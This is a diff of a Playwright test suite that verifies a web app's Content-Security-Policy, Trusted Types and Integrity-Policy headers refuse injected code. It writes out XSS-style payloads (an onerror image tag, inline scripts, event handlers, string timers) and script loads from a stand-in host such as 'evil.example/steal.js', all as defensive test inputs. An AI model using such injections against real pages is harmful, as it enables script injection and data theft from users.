@@ -1,14 +1,17 @@
+import type { Page } from '@playwright/test';
 import { AREAS } from '../areas';
 import { expect, test } from '../fixtures';
 
-test('no area is against the page’s policy, which allows no inline code and no eval', async ({
+test('no area is against the page’s policies, which allow no inline code, no eval and no HTML from text', async ({
   signIn,
 }) => {
   const page = await signIn('admin', '/nowhere');
-  const response = await page.request.get('/tasks');
-  const policy = response.headers()['content-security-policy'] ?? '';
+  const headers = (await page.request.get('/tasks')).headers();
+  const policy = headers['content-security-policy'] ?? '';
   expect(policy).toMatch(/script-src 'self';.*style-src 'self' 'nonce-[^']+';/);
+  expect(policy).toContain("require-trusted-types-for 'script'; trusted-types default;");
   expect(policy).not.toContain('unsafe');
+  expect(headers['integrity-policy']).toContain('blocked-destinations=(script)');
 
   // policyGuard fails this test, like every other, when a page reports a violation.
   for (const { path, row } of AREAS) {
@@ -17,42 +20,161 @@ test('no area is against the page’s policy, which allows no inline code and no
   }
 });
 
-test('inline code, inline styles, eval and foreign files are refused, and the guard sees it', async ({
-  page,
-}) => {
-  await page.goto('/');
-  const refused = await page.evaluate(async () => {
-    const directives: string[] = [];
+/** Notes the violations of pages to come in `window.refused` and keeps them from the guard. */
+async function expectViolations(page: Page) {
+  await page.addInitScript(() => {
+    const refused = new Set<string>();
+    Object.assign(window, { refused });
     document.addEventListener(
       'securitypolicyviolation',
       (event) => {
         // This time it is wanted: the guard, which listens later, is not told.
         event.stopImmediatePropagation();
-        directives.push(event.effectiveDirective);
+        refused.add(`${event.effectiveDirective} ${event.blockedURI}`);
       },
       { capture: true },
     );
-    const script = document.createElement('script');
-    script.textContent = 'document.title = "planted"';
-    const style = document.createElement('style');
-    style.textContent = 'body { display: none }';
-    const image = document.createElement('img');
-    image.src = 'https://example.com/pixel.png';
-    document.head.append(script, style);
-    document.body.append(image);
-    // An eval: the browser's tools, by which this code runs, may do one themselves.
-    setTimeout('document.title = "planted"');
-    const started = Date.now();
-    while (directives.length < 4 && Date.now() - started < 5_000) {
-      await new Promise((resolve) => requestAnimationFrame(resolve));
+    const observer = new ReportingObserver(
+      (reports) => {
+        for (const { body } of reports) {
+          // TypeScript's DOM library does not know this kind of report.
+          const { blockedURL, destination } = body as unknown as Record<string, string>;
+          refused.add(`integrity of ${String(destination)} ${String(blockedURL)}`);
+        }
+      },
+      { types: ['integrity-violation'], buffered: true },
+    );
+    observer.observe();
+  });
+  return {
+    read: () =>
+      page.evaluate(() => {
+        const { refused } = window as unknown as { refused: ReadonlySet<string> };
+        return [...refused].sort();
+      }),
+  };
+}
+
+test('text becomes neither code nor HTML nor a script’s address, and no file comes from elsewhere', async ({
+  page,
+}) => {
+  const refused = await expectViolations(page);
+  await page.goto('/');
+
+  const results = await page.evaluate(() => {
+    function attempt(plant: () => unknown): string {
+      try {
+        plant();
+        return 'done';
+      } catch (error) {
+        return error instanceof TypeError ? 'refused' : String(error);
+      }
     }
-    return directives;
+    const loadScript = (src: string) => {
+      const script = document.createElement('script');
+      script.src = src;
+      document.head.append(script);
+    };
+    // Chromium's own type is in no library of TypeScript yet.
+    const { trustedTypes } = window as unknown as {
+      trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
+    };
+    const plants: Record<string, () => unknown> = {
+      html: () => (document.body.innerHTML = '<img src=x onerror="document.title = 1">'),
+      'inline script': () => {
+        const script = document.createElement('script');
+        script.textContent = 'document.title = "planted"';
+        document.head.append(script);
+      },
+      'event handler': () => {
+        document.body.setAttribute('onclick', 'document.title = "planted"');
+      },
+      'foreign script': () => {
+        loadScript('https://evil.example/areas/planted.js');
+      },
+      'own address that is no release': () => {
+        loadScript('/api/openapi.json');
+      },
+      'policy of somebody else': () => trustedTypes.createPolicy('planted', {}),
+      'second default policy': () => trustedTypes.createPolicy('default', {}),
+      'text of a timer': () => setTimeout('document.title = "planted"'),
+      'inline style': () => {
+        const style = document.createElement('style');
+        style.textContent = 'body { display: none }';
+        document.head.append(style);
+      },
+      'foreign image': () => {
+        const image = document.createElement('img');
+        image.src = 'https://example.com/pixel.png';
+        document.body.append(image);
+      },
+    };
+    return Object.entries(plants).map(([name, plant]) => `${name}: ${attempt(plant)}`);
   });
 
-  expect([...new Set(refused)].sort()).toEqual([
-    'img-src',
-    'script-src',
-    'script-src-elem',
-    'style-src-elem',
+  expect(results).toEqual([
+    'html: refused',
+    'inline script: refused',
+    'event handler: refused',
+    'foreign script: refused',
+    'own address that is no release: refused',
+    'policy of somebody else: refused',
+    'second default policy: refused',
+    'text of a timer: refused',
+    'inline style: done',
+    'foreign image: done',
   ]);
+  await expect
+    .poll(refused.read)
+    .toEqual([
+      'img-src https://example.com/pixel.png',
+      'require-trusted-types-for trusted-types-sink',
+      'style-src-elem inline',
+      'trusted-types trusted-types-policy',
+    ]);
+  await expect(page).toHaveTitle('Login · Atrium');
+});
+
+test('a page with planted scripts runs none of them and reports them to the server’s log', async ({
+  page,
+  product,
+}) => {
+  const refused = await expectViolations(page);
+  let boot = '';
+  await page.route('**/login?secret', async (route) => {
+    const response = await route.fetch();
+    const html = await response.text();
+    boot = /\/shell\/boot\.\w+\.js/.exec(html)?.[0] ?? '';
+    const planted = [
+      '<script>window.planted = "inline"</script>',
+      '<script src="https://evil.example/steal.js?secret" crossorigin="anonymous"></script>',
+      // A file of this server, without the hash that its release has recorded.
+      `<script src="${boot}?secret" crossorigin="anonymous"></script>`,
+    ];
+    await route.fulfill({ response, body: html.replace('<head>', `<head>${planted.join('')}`) });
+  });
+  const answered: string[] = [];
+  page.on('response', (response) => answered.push(response.url()));
+  await page.goto('/login?secret');
+  await expect(page.getByRole('button', { name: 'Login' })).toBeVisible();
+
+  await expect
+    .poll(refused.read)
+    .toEqual([
+      `integrity of script ${product.origin}${boot}?secret`,
+      'script-src-elem https://evil.example/steal.js?secret',
+      'script-src-elem inline',
+    ]);
+  expect(await page.evaluate(() => 'planted' in window)).toBe(false);
+  expect(answered.filter((url) => url.includes('?secret'))).toEqual([
+    `${product.origin}/login?secret`,
+  ]);
+  // Violations of Integrity-Policy are reported over TLS alone.
+  await expect
+    .poll(() => product.log.filter((line) => line.includes('"page":"/login"')).sort())
+    .toEqual([
+      expect.stringMatching(/"blocked":"evil\.example\/steal\.js".*"policy_violation"/),
+      expect.stringMatching(/"blocked":"inline".*"policy_violation"/),
+    ]);
+  expect(product.log.join()).not.toContain('secret');
 });
